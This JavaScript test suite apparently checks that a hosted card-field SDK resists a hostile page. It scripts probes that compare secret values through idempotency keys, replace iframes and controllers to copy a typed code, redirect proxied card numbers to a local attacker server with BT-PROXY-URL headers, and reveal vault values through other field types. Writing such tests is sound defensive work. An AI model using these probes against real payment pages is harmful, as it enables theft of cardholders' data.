// A hostile page uses calls of the hosted fields to learn a value: it compares, redirects, imitates frames, and shows
// values of the vault as something else. For each probe, a control shows that it works on a value that the page has.

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, before, test } from "node:test";

import { HOSTILE_PAGE, authorize, withHostilePage } from "./hostile-page.js";
import { FIELDS, startSites } from "./sites.js";

const NUMBER = "4242424242424242";
const CODE = "737";
const GUESSES = ["736", "737", "738"];

let sites, attacker, received;

before(async () => {
  sites = await startSites({ "/hostile": HOSTILE_PAGE });
  received = [];
  // A server of the attacker.
  attacker = createServer(async (request, response) => {
    let text = "";
    for await (const chunk of request) text += chunk;
    received.push({ text, headers: request.headers });
    response.writeHead(200, { "Content-Type": "application/json" }).end("{}");
  }).listen(0, "127.0.0.1");
  await once(attacker, "listening");
});

after(async () => {
  attacker.close();
  attacker.closeAllConnections();
  assert.equal(await sites.stop(), 0);
});

const onHostilePage = (name, use) => test(name, () => withHostilePage(sites, name, use));
const attackerUrl = () => `http://127.0.0.1:${attacker.address().port}/`;

async function typeCode(page, input) {
  await page.evaluate(() => window.addField("code", "cardVerificationCode"));
  await input("code").pressSequentially(CODE);
}

// The guesses whose outcome is not the one of most guesses.
function standsOut(outcomes) {
  const kinds = outcomes.map((it) => JSON.stringify(it));
  const usual = kinds.filter((it) => kinds.filter((other) => other === it).length > 1)[0];
  return GUESSES.filter((_, index) => kinds[index] !== usual);
}

// --- Equality ---

// Each probe sends the value with an idempotency key, and then each guess with a key that the vault may compare.
const COMPARISONS = {
  "guess in place of the element": ({ value, guess }) => [value, guess].map((data) => ({ data, deduplicateToken: false })),
  "guess and element change places": ({ value, guess }) => [{ data: { a: value, b: guess } }, { data: { a: guess, b: value } }],
};

for (const [name, bodies] of Object.entries(COMPARISONS)) {
  onHostilePage(`idempotency key does not compare a value: ${name}`, async (page, input) => {
    await typeCode(page, input);
    const compare = `async (value, guesses, name) => {
      const outcomes = [];
      for (const guess of guesses) {
        const options = { idempotencyKey: name + guess };
        const [first, second] = (${bodies})({ value, guess });
        await window.elements.tokens.create({ type: "token", ...first }, options);
        const { kind } = await window.outcome(window.elements.tokens.create({ type: "token", ...second }, options));
        outcomes.push(kind);
      }
      return outcomes;
    }`;
    // Control: the page compares a value of its own.
    const own = await page.evaluate(`(${compare})("${CODE}", ${JSON.stringify(GUESSES)}, "own")`);
    assert.deepEqual(standsOut(own), [CODE], own.join());
    const typed = await page.evaluate(`(${compare})(window.fields.code, ${JSON.stringify(GUESSES)}, "typed")`);
    assert.deepEqual(standsOut(typed), [], typed.join());
  });
}

onHostilePage("frame that imitates an unchanged element has another idempotency key", async (page, input) => {
  await typeCode(page, input);
  const outcomes = [];
  for (const guess of GUESSES) {
    outcomes.push(
      await page.evaluate(async (guess) => {
        const { code } = window.fields;
        const create = () => window.elements.tokens.create({ type: "token", data: code }, { idempotencyKey: "same" });
        const first = await create();
        // The same name, the same element id, and a value of the page.
        const old = window.frameOf("code");
        await window.replaceFrame(old, old.src, { options: { targetId: "code", value: guess } });
        const { kind, value } = await window.outcome(create());
        return [kind, value?.id === first.id];
      }, guess),
    );
  }
  assert.deepEqual(outcomes, GUESSES.map(() => ["answer", false]));
});

onHostilePage("idempotency key does not tell whether a transform changed a text", async (page, input) => {
  await page.evaluate(async () => {
    await window.addField("text", "text", { transform: [/^(?=.*z).*$/, ""] });
    await window.addField("copy", "text");
    window.compare = async (first, second) => {
      const options = { idempotencyKey: String(Math.random()) };
      const create = (data) => window.outcome(window.elements.tokens.create({ type: "token", data: { data } }, options));
      const [a, b] = [await create(first), await create(second)];
      return `${a.kind} ${b.kind} ${a.value?.id === b.value?.id}`;
    };
  });
  const own = await page.evaluate(async () => [await window.compare("hello", "hello"), await window.compare("hezlo", "")]);
  assert.equal(new Set(own).size, 2, "control: the page compares texts of its own");
  const outcomes = [];
  for (const text of ["hello", "hezlo"]) {
    await input("text").click();
    await page.keyboard.press("Control+A");
    await page.keyboard.type(text);
    outcomes.push(
      await page.evaluate(async () => {
        window.fields.copy.setValueRef(window.fields.text);
        await window.wait(400);
        return window.compare(window.fields.text, window.fields.copy);
      }),
    );
  }
  assert.deepEqual(outcomes, Array(2).fill("answer answer false"));
});

onHostilePage("number or code in any place of tokenize is stored in a container of cards without a fingerprint", async (page, input) => {
  await typeCode(page, input);
  await page.evaluate(() => window.addField("number", "cardNumber"));
  await input("number").pressSequentially("4539578763621486");
  for (const extra of [{}, { token_intent_id: null }, { encrypted: "x" }]) {
    const ids = await page.evaluate(async (extra) => {
      const { code, number } = window.fields;
      const { data } = await window.elements.tokenize({ ...extra, data: { code, number } });
      const plain = await window.elements.tokenize({ ...extra, data: { text: "a text" } });
      return { code: data.code, number: data.number, plain: plain.data.text };
    }, extra);
    for (const [name, id] of Object.entries(ids)) {
      const { body } = await sites.vault.send("private", "GET", `/tokens/${id}`);
      const isCard = name !== "plain";
      assert.deepEqual(body.containers, [isCard ? "/pci/high/" : "/general/high/"], name);
      assert.equal(body.fingerprint === undefined, isCard, name);
    }
  }
});

onHostilePage("answer has the same form for every value in it", async (page, input) => {
  const typed = "Correct-07";
  await page.evaluate(() => window.addField("text", "text"));
  await input("text").fill(typed);
  const candidates = Array.from({ length: 20 }, (_, index) => `Correct-${String(index).padStart(2, "0")}`);
  // The probe finds a candidate that came back in another form.
  const differing = (answer) => {
    const forms = candidates.map((_, index) => typeof answer?.[`c${index}`]);
    return candidates.filter((_, index) => forms[index] !== forms[0]);
  };
  const control = Object.fromEntries(candidates.map((it, index) => [`c${index}`, it === typed ? { path: "/x" } : it]));
  assert.deepEqual(differing(control), [typed]);
  const { token, nested } = await page.evaluate(async (candidates) => {
    const metadata = Object.fromEntries(candidates.map((it, index) => [`c${index}`, it]));
    const model = { type: "token", data: window.fields.text, metadata };
    return { token: await window.elements.tokens.create(model), nested: await window.elements.tokenize({ a: model }) };
  }, candidates);
  for (const answer of [token.metadata, nested.a.metadata]) assert.deepEqual(differing(answer), []);
  assert.deepEqual([token.metadata, nested.a.metadata], [undefined, undefined]);
  assert.match(token.id, /^[0-9a-f-]{36}$/);
});

// --- Other keys and destinations ---

onHostilePage("element goes to no destination that the page names", async (page, input) => {
  await page.evaluate(() => window.addField("number", "cardNumber"));
  await input("number").pressSequentially(NUMBER);
  const session = await page.evaluate(() => window.elements.sessions.create());
  await authorize(sites.vault, session.nonce, { permissions: ["token:use", "proxy:invoke"] });
  const open = await sites.vault.send("management", "POST", "/proxies", { name: "Open", destination_url: attackerUrl(), require_auth: false });
  assert.equal(open.status, 201, JSON.stringify(open.body));
  const send = (headers, body) =>
    page.evaluate(
      ({ apiKey, headers, body }) => {
        const sent = { apiKey, headers, body: body ?? { number: window.fields.number } };
        return window.outcome(window.elements.proxy.post(sent)).then((it) => it.kind);
      },
      { apiKey: session.sessionKey, headers, body },
    );
  received.length = 0;
  const ways = [{ "BT-PROXY-URL": attackerUrl() }, { "bt-proxy-url": attackerUrl() }, { "BT-PROXY-KEY": open.body.key }];
  // Control: the destination gets what the page itself supplies.
  for (const headers of ways) assert.equal(await send(headers, { number: "own" }), "answer", JSON.stringify(headers));
  assert.equal(received.length, ways.length);
  received.length = 0;
  for (const headers of ways) assert.match(await send(headers), /BasisTheory(Validation|Api)Error/, JSON.stringify(headers));
  assert.deepEqual(received, []);
  // A proxy that an administrator configured for known senders gets the value, and no header of the frame.
  const known = await sites.vault.send("management", "POST", "/proxies", { name: "Known", destination_url: attackerUrl(), require_auth: true });
  assert.equal(await send({ "BT-PROXY-KEY": known.body.key }), "answer");
  assert.deepEqual(received.map((it) => JSON.parse(it.text)), [{ number: NUMBER }]);
  assert.deepEqual(Object.keys(received[0].headers).filter((it) => it.startsWith("scrip-") || it.startsWith("bt-")), []);
});

onHostilePage("element is sent only with keys of the frame's application", async (page, input) => {
  await typeCode(page, input);
  const other = await sites.vault.send("management", "POST", "/applications", { name: "Other", type: "public", permissions: ["token:create"] });
  const created = await page.evaluate(
    async ({ fields, key }) => {
      const response = await fetch(`${fields}/api/sessions`, { method: "POST", headers: { "BT-API-KEY": key } });
      return response.json();
    },
    { fields: FIELDS, key: other.body.key },
  );
  await authorize(sites.vault, created.nonce, { permissions: ["token:create"] });
  const own = await page.evaluate(() => window.elements.sessions.create());
  await authorize(sites.vault, own.nonce, { permissions: ["token:create"] });
  const create = (apiKey, data) =>
    page.evaluate(
      ({ apiKey, data }) => {
        const value = data ?? window.fields.code;
        return window.outcome(window.elements.tokens.create({ type: "token", data: value }, { apiKey })).then((it) => it.kind);
      },
      { apiKey, data },
    );
  const { keys } = sites.vault;
  for (const [name, key] of Object.entries({ private: keys.private, "another session": created.session_key })) {
    assert.equal(await create(key, "own"), "answer", `control: ${name}`);
    assert.equal(await create(key), "BasisTheoryApiError 403", name);
  }
  assert.match(await create(keys.management), /Error/);
  assert.equal(await create(own.sessionKey), "answer");
  assert.equal(await create(undefined), "answer");
});

onHostilePage("controller of another application does not get a value", async (page, input) => {
  await typeCode(page, input);
  const other = await sites.vault.send("management", "POST", "/applications", { name: "Other", type: "public", permissions: ["token:create"] });
  const steal = (key, extra) =>
    page.evaluate(
      async ({ key, extra }) => {
        const old = document.querySelector("iframe[name^=scrip-controller-]");
        const src = new URL(old.src);
        src.searchParams.set("application", key);
        const controller = await window.replaceFrame(old, src.href, { apiKey: key, options: {} });
        if (extra) {
          // A field of the other application copies the typed value.
          const field = window.frameOf("code");
          const place = document.createElement("div");
          place.id = "thief";
          document.body.append(place);
          const copy = document.createElement("iframe");
          copy.name = field.name.replace(/-[^-]+$/, "-thief");
          place.append(copy);
          const address = new URL(field.src);
          address.searchParams.set("application", key);
          address.hash = address.hash.replace(/element=[^&]+/, "element=thief");
          const { frame, nonce } = await window.replaceFrame(copy, address.href, { options: { targetId: "thief" } });
          frame.contentWindow.postMessage({ scrip: 1, nonce, element: "thief", type: "set", from: window.elementId("code") }, "*");
          await window.wait(500);
        }
        const element = extra ? "thief" : window.elementId("code");
        const call = { operation: "tokens.create", payload: { type: "token", data: null }, elements: [{ path: ["data"], element }] };
        const { type, value, error } = await window.sendRaw(controller, call);
        return { type, id: value?.id, message: error?.message };
      },
      { key, extra },
    );
  const stored = async ({ id }) => id && (await sites.vault.send("private", "GET", `/tokens/${id}`)).body.data;
  // Control: a new controller of the same application gets it.
  assert.equal(await stored(await steal(sites.vault.keys.public, false)), CODE);
  const replaced = await steal(other.body.key, false);
  assert.deepEqual([replaced.type, await stored(replaced)], ["failure", undefined], JSON.stringify(replaced));
  const copied = await steal(other.body.key, true);
  assert.notEqual(await stored(copied), CODE);
});

onHostilePage("value is encrypted only for keys of the frame's tenant, with its own key", async (page, input) => {
  await typeCode(page, input);
  const requests = [];
  page.on("request", (it) => requests.push(it));
  const { body } = await sites.vault.send("management", "POST", "/keys", {});
  const kind = await page.evaluate(
    async ({ key, apiKey }) => {
      const tokenRequests = { type: "token", data: window.fields.code };
      return (await window.outcome(window.elements.tokens.encrypt({ tokenRequests, ...key }, { apiKey }))).kind;
    },
    { key: { keyId: body.key_id, publicKeyPem: body.public_key_pem }, apiKey: sites.vault.keys.private },
  );
  assert.equal(kind, "answer");
  const [asked] = requests.filter((it) => it.url().endsWith("/public-key"));
  const headers = await asked.allHeaders();
  assert.equal(headers["bt-api-key"], sites.vault.keys.public, "the frame asks with its own key");
  assert.equal(headers["scrip-field-application"], sites.vault.keys.public);
});

onHostilePage("value outside of its own attribute is marked in the request", async (page, input) => {
  await typeCode(page, input);
  await page.evaluate(() => window.addField("text", "text"));
  await input("text").fill("typed");
  const requests = [];
  page.on("request", (it) => it.url().includes("/api/") && requests.push(it));
  const answers = await page.evaluate(async () => {
    const { code, text } = window.fields;
    return [
      await window.outcome(window.elements.tokens.create({ type: "token", data: text })),
      await window.outcome(window.elements.tokens.create({ type: "token", data: { cvc: code } })),
      await window.outcome(window.elements.tokenIntents.create({ type: "token", data: text })),
      await window.outcome(window.elements.tokenize({ a: text })),
      await window.outcome(window.elements.tokens.create({ type: "card", data: { number: "4242424242424242", expiration_month: 12, expiration_year: 2030, cvc: code } })),
      await window.outcome(window.elements.tokens.create({ type: "card", data: { number: "4242424242424242", expiration_month: text, expiration_year: 2030 } })),
    ];
  });
  const marks = await Promise.all(requests.map(async (it) => (await it.allHeaders())["scrip-field-mark"]));
  assert.deepEqual(marks, ["text", "text", "text", "text", undefined]);
  assert.deepEqual(answers.map((it) => it.kind), [...Array(5).fill("answer"), "BasisTheoryValidationError "]);
  for (const { value } of answers.slice(0, 3)) assert.equal(value.fingerprint, undefined);
});

// --- Values of the vault ---

const AMEX = { number: "378282246310005", expiration_month: 7, expiration_year: 2031, cvc: "1230" };
const REVEAL = {
  rules: [{ description: "show", priority: 1, container: "/pci/high/", transform: "reveal", permissions: ["token:read"] }],
};

async function storeCard() {
  const { status, body } = await sites.vault.send("private", "POST", "/tokens", { type: "card", data: AMEX });
  assert.equal(status, 201, JSON.stringify(body));
  return body.id;
}

onHostilePage("security code of the vault does not come back as a date", async (page, input) => {
  const id = await storeCard();
  const session = await page.evaluate(() => window.elements.sessions.create());
  await authorize(sites.vault, session.nonce, REVEAL);
  const show = (name) =>
    page.evaluate(
      async ({ id, apiKey, name }) => {
        const { data } = await window.elements.tokens.retrieve(id, { apiKey });
        if (window.fields?.date === undefined) await window.addField("date", "cardExpirationDate");
        const { date } = window.fields;
        date.clear();
        const references = {
          code: data.cvc,
          mixed: { month: data.cvc, year: data.expiration_year },
          date: { month: data.expiration_month, year: data.expiration_year },
        };
        date.setValue(references[name]);
        await window.wait(400);
        const card = { number: "4242424242424242", expiration_month: date.month(), expiration_year: date.year() };
        const { value } = await window.outcome(window.elements.tokens.create({ type: "card", data: card }));
        return [value?.card?.expirationMonth, value?.card?.expirationYear];
      },
      { id, apiKey: session.sessionKey, name },
    );
  assert.deepEqual(await show("date"), [7, 2031], "control: a date comes back as a date");
  for (const name of ["code", "mixed"]) {
    assert.deepEqual(await show(name), [undefined, undefined], name);
    assert.equal(await input("date").inputValue(), "");
  }
});

onHostilePage("text shows a security code, which keeps its kind", async (page, input) => {
  const id = await storeCard();
  const kept = await page.evaluate(() => window.elements.sessions.create({ keepInFrame: true }));
  await authorize(sites.vault, kept.nonce, REVEAL);
  const results = await page.evaluate(
    async ({ id, session }) => {
      const { data } = await window.elements.tokens.retrieve(id, { session });
      await window.addField("text", "text", { mask: [/[0-4]/, /[0-4]/], transform: [/^1(.).*$/, "$1"] });
      const { text } = window.fields;
      text.setValue(data.cvc);
      await window.wait(400);
      const create = (model) => window.outcome(window.elements.tokens.create(model)).then((it) => it.kind);
      const card = { number: "378282246310005", expiration_month: 12, expiration_year: 2030 };
      return {
        changes: window.changes.text.map(({ type, ...fields }) => fields),
        token: await create({ type: "token", data: text }),
        month: await create({ type: "card", data: { ...card, expiration_month: text } }),
        code: await create({ type: "card", data: { ...card, cvc: text } }),
      };
    },
    { id, session: kept.session },
  );
  assert.equal(await input("text").inputValue(), AMEX.cvc, "no mask applies");
  assert.deepEqual(results.changes, [{ empty: false }]);
  assert.deepEqual([results.token, results.month, results.code], ["BasisTheoryValidationError ", "BasisTheoryValidationError ", "answer"]);
});

onHostilePage("session that stays in the frame gives the page no key", async (page, input) => {
  const id = await storeCard();
  const readDirectly = (key) =>
    page.evaluate(
      async ({ fields, id, key }) => {
        const response = await fetch(`${fields}/api/tokens/${id}`, { headers: { "BT-API-KEY": key } });
        return (await response.json()).data?.number;
      },
      { fields: FIELDS, id, key },
    );
  // Control: with the key of a session, a page reads what the session may read.
  const session = await page.evaluate(() => window.elements.sessions.create());
  await authorize(sites.vault, session.nonce, REVEAL);
  assert.equal(await readDirectly(session.sessionKey), AMEX.number);
  const kept = await page.evaluate(() => window.elements.sessions.create({ keepInFrame: true }));
  await authorize(sites.vault, kept.nonce, REVEAL);
  for (const text of Object.values(kept)) assert.equal(await readDirectly(String(text)), undefined);
  const shown = await page.evaluate(
    async ({ id, session }) => {
      const token = await window.elements.tokens.retrieve(id, { session });
      await window.addField("number", "cardNumber", { readOnly: true });
      window.fields.number.setValue(token.data.number);
      await window.wait(400);
      const proxied = { session, headers: { "BT-PROXY-URL": "https://other.test" }, body: `{{ ${id} }}` };
      const refused = [window.elements.proxy.post(proxied), window.elements.tokens.update(id, { mask: "{{ data.number }}" }, { session })];
      return { token, refused: (await Promise.all(refused.map(window.outcome))).map((it) => it.kind) };
    },
    { id, session: kept.session },
  );
  assert.equal((await input("number").inputValue()).replaceAll(" ", ""), AMEX.number);
  assert.ok(!JSON.stringify([kept, shown]).includes(AMEX.number));
  assert.deepEqual(shown.refused, Array(2).fill("BasisTheoryValidationError "));
});
